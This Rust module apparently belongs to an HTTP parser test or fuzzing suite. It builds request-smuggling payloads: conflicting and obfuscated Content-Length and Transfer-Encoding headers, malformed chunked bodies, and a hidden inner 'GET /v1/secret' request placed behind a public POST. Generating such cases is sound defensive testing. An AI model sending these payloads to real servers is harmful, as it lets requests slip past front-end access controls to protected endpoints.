//! Requests inside requests: what is body to one reader is a request to another.

/// Framing headers of a free POST.
pub(super) const FRAMES: &[&str] = &[
    "Content-Length: 0",
    "Content-Length: 4",
    "Content-Length: 0\r\nContent-Length: 4",
    "Content-Length: 4\r\nContent-Length: 0",
    "Content-Length: 0, 4",
    "Content-Length: 00",
    "Content-Length: +0",
    "Content-Length: -0",
    "Content-Length: 0x0",
    "Content-Length: 0 ",
    "Content-Length:\t0",
    "Content-Length : 0",
    "Content_Length: 0",
    "Content-Length: \r\n 0",
    "Content-Length: 18446744073709551616",
    "Content-Length: 4\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nContent-Length: 4",
    "Transfer-Encoding: chunked\r\nContent-Length: 0",
    "Transfer-Encoding: chunked",
    "transfer-encoding: CHUNKED",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: identity, chunked",
    "Transfer-Encoding: chunked, identity",
    "Transfer-Encoding: gzip, chunked",
    "Transfer-Encoding: xchunked",
    "Transfer-Encoding: \"chunked\"",
    "Transfer-Encoding: chunked;q=1",
    "Transfer-Encoding:\tchunked",
    "Transfer-Encoding: \u{b}chunked",
    "Transfer-Encoding : chunked",
    "Transfer-Encoding\t: chunked",
    " Transfer-Encoding: chunked",
    "X: y\r\n Transfer-Encoding: chunked",
    "X: y\nTransfer-Encoding: chunked",
    "X: y\rTransfer-Encoding: chunked",
    "Transfer-Encoding:\r\n chunked",
    "Transfer_Encoding: chunked",
    "Transfer-Encoding: chunked\r\nConnection: Transfer-Encoding",
    "Content-Length: 4\r\nConnection: Content-Length",
    "Expect: 100-continue\r\nContent-Length: 4",
    "Expect: 100-continue\r\nTransfer-Encoding: chunked",
    "Upgrade: websocket\r\nConnection: Upgrade",
    "",
];

pub(super) const BODIES: &[&str] = &[
    "",
    "0\r\n\r\n",
    "0\n\n",
    "0\r\nX: y\r\n\r\n",
    "4\r\nabcd\r\n0\r\n\r\n",
    "4;x\r\nabcd\r\n0\r\n\r\n",
    "4;\nabcd\r\n0\r\n\r\n",
    "04\r\nabcd\r\n0\r\n\r\n",
    "0x4\r\nabcd\r\n0\r\n\r\n",
    "4 \r\nabcd\r\n0\r\n\r\n",
    "4\r\nabcdef\r\n0\r\n\r\n",
    "10000000000000004\r\nabcd\r\n0\r\n\r\n",
    "-1\r\n0\r\n\r\n",
];

/// What hides behind.
pub(super) const INNER: &str =
    "GET /v1/secret HTTP/1.1\r\nHost: a.example\r\nConnection: close\r\n\r\n";

pub(super) fn all() -> Vec<Vec<u8>> {
    let inner = INNER;
    let mut all = Vec::new();
    for frame in FRAMES {
        let frame = if frame.is_empty() {
            String::new()
        } else {
            format!("{frame}\r\n")
        };
        for body in BODIES {
            let head = format!("POST /public/a HTTP/1.1\r\nHost: a.example\r\n{frame}\r\n");
            all.push(format!("{head}{body}{inner}").into_bytes());
        }
    }
    for method in ["GET", "HEAD", "OPTIONS"] {
        for times in [1, 3] {
            let free = format!("{method} /public/a HTTP/1.1\r\nHost: a.example\r\n\r\n");
            all.push(format!("{}{inner}", free.repeat(times)).into_bytes());
        }
        let length = format!("Content-Length: {}\r\n", inner.len());
        let free = format!("{method} /public/a HTTP/1.1\r\nHost: a.example\r\n{length}\r\n");
        all.push(format!("{free}{inner}").into_bytes());
    }
    all
}
